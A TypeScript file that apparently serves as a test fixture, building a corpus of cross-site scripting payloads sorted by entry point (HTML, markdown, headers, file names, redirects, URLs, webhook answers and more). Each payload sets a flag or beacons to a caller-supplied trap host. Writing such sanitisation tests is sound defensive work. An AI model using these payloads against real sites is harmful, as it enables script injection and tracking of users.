/** By where they enter the service. */
export interface XssCorpus {
  /** Pages of targets. */
  html: readonly string[]
  /** Documents of plain text, which are shown as markdown. */
  markdown: readonly string[]
  /** Titles and descriptions of pages. */
  titles: readonly string[]
  /** Paths and queries of URLs that are scraped, and of what pages load and link to. */
  urls: readonly string[]
  /** Values of response headers and cookies. */
  headers: readonly string[]
  /** Values of `Content-Disposition`: names of files. */
  fileNames: readonly string[]
  /** Targets of redirects, which cannot be followed. */
  redirects: readonly string[]
  /** What pages write to their console, as JavaScript expressions. */
  consoles: readonly string[]
  /** What receivers of webhooks answer. */
  answers: readonly string[]
  /** Names, notes and descriptions that people give. */
  names: readonly string[]
}

/**
 * Texts that run a script, or tell a stranger that somebody looks, wherever they are taken for markup. A script
 * sets `__ran`; whatever is loaded or opened goes to the trap.
 */
export function xssCorpus(trap: string): XssCorpus {
  const js = `self.__ran=1;new Image().src='${trap}/script'`
  return {
    html: [...scriptVectors(js), ...handlerVectors(js), ...documentVectors(js, trap)],
    markdown: markdownVectors(js, trap),
    titles: titleVectors(js),
    urls: [
      `/"><script>${js}</script>`,
      `/<img src=x onerror=${js}>`,
      `/'onmouseover='${js}`,
      `/javascript:${js}`,
      `/page?next=javascript:${js}`,
      `/page?q=<svg/onload=${js}>`,
      `/page?q=</td></tr></table><script>${js}</script>`,
      `/page?q=%3Cscript%3E${encodeURIComponent(js)}%3C/script%3E`,
      `/page?q="autofocus onfocus="${js}`,
      `/\u202e<script>${js}</script>`,
    ],
    headers: [
      `<script>${js}</script>`,
      `"><img src=x onerror="${js}">`,
      `text/html; charset="><svg/onload=${js}>`,
      `javascript:${js}`,
      `<${trap}/preload>; rel=preload; as=script`,
      `0;url=${trap}/refresh`,
      `x=<iframe src="javascript:${js}">; path=/`,
    ],
    fileNames: [
      `attachment; filename="<img src=x onerror=${js}>.csv"`,
      `attachment; filename="report.html"; x="<script>${js}</script>"`,
      `inline; filename="javascript:${js}"`,
      `attachment; filename*=UTF-8''%3Csvg%20onload%3D${encodeURIComponent(js)}%3E.txt`,
      `attachment; filename="..\\..\\<body onload=${js}>"`,
    ],
    redirects: [
      `javascript:${js}`,
      `data:text/html,<script>${js}</script>`,
      `vbscript:${js}`,
      `http://<script>${js}</script>/`,
      `http://127.0.0.1:1025/<img src=x onerror=${js}>`,
    ],
    consoles: [
      `"<script>${js}</script>"`,
      `"<img src=x onerror=\\"${js}\\">"`,
      `"%c styled <svg/onload=alert(1)>", "background:url(${trap}/console)"`,
      `"%s", "<iframe srcdoc='<script>1</script>'>"`,
      `{ html: "<b onclick=alert(1)>x</b>", toString() { return "<script>1</script>" } }`,
      `new Error("<details open ontoggle=alert(1)>")`,
      `"javascript:${js}"`,
      `["</pre><script>", "alert(1)</script>"]`,
    ],
    answers: answerVectors(js, trap),
    names: [
      `<script>${js}</script>`,
      `"><img src=x onerror="${js}">`,
      `' onmouseover='${js}`,
      `javascript:${js}`,
      `</option><svg/onload=${js}>`,
      `\${${js}}`,
    ],
  }
}

const scriptVectors = (js: string): string[] => [
  `<script>${js}</script>`,
  `<SCRIPT>${js}</SCRIPT>`,
  `<script type="module">${js}</script>`,
  `<script\t>${js}</script>`,
  `<script/x>${js}</script>`,
  `<<script>${js}//<</script>`,
  `<script src="data:text/javascript,${encodeURIComponent(js)}"></script>`,
  `<svg><script>${js}</script></svg>`,
  `<svg><script href="data:text/javascript,${encodeURIComponent(js)}"/></svg>`,
  `<math><mi><script>${js}</script></mi></math>`,
  `<noscript><p title="</noscript><script>${js}</script>">`,
  `<textarea></textarea><script>${js}</script>`,
  `<style></style><script>${js}</script>`,
  `<template><script>${js}</script></template>`,
  `<!--><script>${js}</script>-->`,
  `<![CDATA[<script>${js}</script>]]>`,
]

const handlerVectors = (js: string): string[] => [
  `<img src=x onerror="${js}">`,
  `<img/src=x/onerror="${js}">`,
  `<image src=x onerror="${js}">`,
  `<body onload="${js}">`,
  `<body onpageshow="${js}">`,
  `<svg onload="${js}"></svg>`,
  `<svg><animate onbegin="${js}" attributeName="x" dur="1s"></svg>`,
  `<svg><set attributeName="onmouseover" to="${js}"></svg>`,
  `<svg><use href="data:image/svg+xml,<svg id=x xmlns='http://www.w3.org/2000/svg' onload='${js}'/>#x"></svg>`,
  `<input autofocus onfocus="${js}">`,
  `<button autofocus onfocus="${js}">x</button>`,
  `<div tabindex="0" autofocus onfocus="${js}">x</div>`,
  `<details open ontoggle="${js}"><summary>x</summary></details>`,
  `<video src=x onerror="${js}"></video>`,
  `<video><source onerror="${js}" src=x></video>`,
  `<audio src=x onerror="${js}"></audio>`,
  `<marquee onstart="${js}">x</marquee>`,
  `<style>@keyframes x{}</style><p style="animation-name:x" onanimationstart="${js}">x</p>`,
  `<p onclick="${js}" style="position:fixed;inset:0">x</p>`,
  `<object data=x onerror="${js}"></object>`,
  `<iframe onload="${js}"></iframe>`,
  `<math><mtext><table><mglyph><style><img src=x onerror="${js}">`,
  `<form><math><mtext></form><form><mglyph><style></math><img src onerror="${js}">`,
  `<select><option></option><svg onload="${js}"></select>`,
  `<table><td background="x" onclick="${js}"><img src=x onerror="${js}"></table>`,
]

/** Documents in documents, navigation, and what is loaded without a script. */
const documentVectors = (js: string, trap: string): string[] => [
  `<iframe src="javascript:${js}"></iframe>`,
  `<iframe srcdoc="<script>${js}</script>"></iframe>`,
  `<iframe src="data:text/html,<script>${js}</script>"></iframe>`,
  `<iframe src="${trap}/frame"></iframe>`,
  `<object data="javascript:${js}"></object>`,
  `<object data="${trap}/object"></object>`,
  `<embed src="${trap}/embed">`,
  `<embed src="javascript:${js}">`,
  `<frameset><frame src="javascript:${js}"></frameset>`,
  `<meta http-equiv="refresh" content="0;url=${trap}/refresh">`,
  `<meta http-equiv="refresh" content="0;url=javascript:${js}">`,
  `<meta http-equiv="content-security-policy" content="default-src * 'unsafe-inline'"><script>${js}</script>`,
  `<base href="${trap}/"><img src="base.png"><script src="base.js"></script>`,
  `<a href="javascript:${js}" autofocus>x</a>`,
  `<a href=" \tjava\nscript:${js}">x</a>`,
  `<a href="${trap}/ping" ping="${trap}/ping">x</a>`,
  `<area href="javascript:${js}" shape="default">`,
  `<form action="${trap}/form" id=f><input type=submit autofocus></form>`,
  `<form><button formaction="javascript:${js}">x</button></form>`,
  `<link rel="stylesheet" href="${trap}/style.css">`,
  `<link rel="preconnect" href="${trap}">`,
  `<link rel="none" rel=preconnect href="${trap}">`,
  `<link rel="dns-prefetch" href="${trap}"><link rel="prefetch" href="${trap}/prefetch">`,
  `<link rel="modulepreload" href="${trap}/module.js">`,
  `<link rel="icon" href="${trap}/icon.png">`,
  `<link rel="manifest" href="${trap}/manifest.json">`,
  `<style>@import "${trap}/import.css"</style>`,
  `<style>body{background:url("${trap}/background.png")}</style>`,
  `<style>@font-face{font-family:x;src:url("${trap}/font")}p{font-family:x}</style><p>x</p>`,
  `<p style="background:url('${trap}/attribute.png')">x</p>`,
  `<img src="${trap}/image.png" srcset="${trap}/image-2.png 2x" loading="eager">`,
  `<picture><source srcset="${trap}/picture.png"><img src=x></picture>`,
  `<video poster="${trap}/poster.png" src="${trap}/video.mp4" autoplay></video>`,
  `<svg><image href="${trap}/svg.png"/><feImage href="${trap}/filter.png"/></svg>`,
  `<script type="speculationrules">{"prefetch":[{"urls":["${trap}/speculated"]}]}</script>`,
  `<fencedframe></fencedframe><portal src="${trap}/portal"></portal>`,
]

const markdownVectors = (js: string, trap: string): string[] => [
  `[x](javascript:${js.replaceAll(' ', '%20')})`,
  `[x](JaVaScRiPt:alert(1))`,
  `[x](java&#10;script:alert(1))`,
  `[x](&#x6A;avascript:alert(1))`,
  `[x](data:text/html;base64,PHNjcmlwdD5zZWxmLl9fcmFuPTE8L3NjcmlwdD4=)`,
  `[x](vbscript:msgbox)`,
  `[x]( <javascript:alert(1)> )`,
  `[x]: javascript:alert(1)\n\n[x]`,
  `<javascript:alert(1)>`,
  `![x](javascript:alert(1))`,
  `![x](${trap}/markdown.png)`,
  `![x](x"onerror="${js})`,
  `![x" onerror="${js}](x)`,
  `[x](http://a.example" onclick="${js})`,
  `[x](http://a.example 'x" onclick="${js}')`,
  `<img src=x onerror="${js}">`,
  `<script>${js}</script>`,
  `<!-- --><svg onload="${js}">`,
  '```html"><script>alert(1)</script>\nx\n```',
  '```\n</code></pre><script>self.__ran=1</script>\n```',
  '`</code><script>self.__ran=1</script>`',
  `| a |\n|---|\n| <img src=x onerror="${js}"> |`,
  `# <svg onload="${js}">`,
  `> <iframe src="${trap}/quoted"></iframe>`,
  `http://a.example/"onmouseover="${js}`,
  `&lt;script&gt;${js}&lt;/script&gt; &#60;script&#62;`,
  `[^1]\n\n[^1]: <script>${js}</script>`,
]

const titleVectors = (js: string): string[] => [
  `</title><script>${js}</script>`,
  `<img src=x onerror="${js}"> in a title`,
  `&lt;script&gt;${js}&lt;/script&gt;`,
  `"><svg/onload="${js}">`,
  `' autofocus onfocus=${js} x='`,
  `{{constructor.constructor("${js}")()}}`,
]

const answerVectors = (js: string, trap: string): string[] => [
  `<script>${js}</script>`,
  `<html><body onload="${js}">no</body></html>`,
  `{"error":"<img src=x onerror=${js}>"}`,
  `</pre></section><svg onload="${js}">`,
  `\u0000<scr\u0000ipt>${js}</scr\u0000ipt>`,
  `<meta http-equiv="refresh" content="0;url=${trap}/answer">`,
  `<link rel="stylesheet" href="${trap}/answer.css">`,
]
